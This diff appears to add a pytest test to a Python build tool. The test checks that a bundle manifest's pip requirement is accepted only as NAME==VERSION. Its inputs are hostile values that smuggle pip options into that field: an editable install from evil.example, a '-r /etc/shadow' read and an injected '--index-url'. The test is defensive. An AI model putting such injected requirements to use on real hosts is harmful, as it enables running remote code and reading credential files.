@@ -169,3 +169,20 @@ def test_provenance_and_log_keep_no_index_credential_nor_stored_secret(tmp_path)
                     timeout_s=30, ctx=ctx, what="pip")
     assert "hunter22" not in "\n".join(ctx.lines) and "s3cr3t-token" not in "\n".join(ctx.lines)
     assert "https://ci:******@pypi.example/simple" in ctx.lines[0]
+
+
+@pytest.mark.parametrize("requirement", ["-e git+https://evil.example/x#egg=x", "-r /etc/shadow",
+                                         "tinyapp==1.0 --index-url=http://evil.example/"])
+def test_a_bundle_manifest_whose_requirement_is_not_name_version_stages_nothing(tmp_path, requirement):
+    """A checkout can hold a nebhx-bundle.json of its own: its requirement reaches pip's
+    command line on the host, so only NAME==VERSION is taken."""
+    import json
+
+    from nebhx.artifacts import pybuild
+    (tmp_path / pybuild.BUNDLE_META).write_text(json.dumps({"format": pybuild.BUNDLE_FORMAT,
+                                                            "requirement": requirement}))
+    with pytest.raises(BrickFailed, match="is not NAME==VERSION"):
+        pybuild.bundle_requirement(tmp_path)
+    (tmp_path / pybuild.BUNDLE_META).write_text(json.dumps({"format": pybuild.BUNDLE_FORMAT,
+                                                            "requirement": "tiny_app==1.2.0rc1+local"}))
+    assert pybuild.bundle_requirement(tmp_path) == "tiny_app==1.2.0rc1+local"
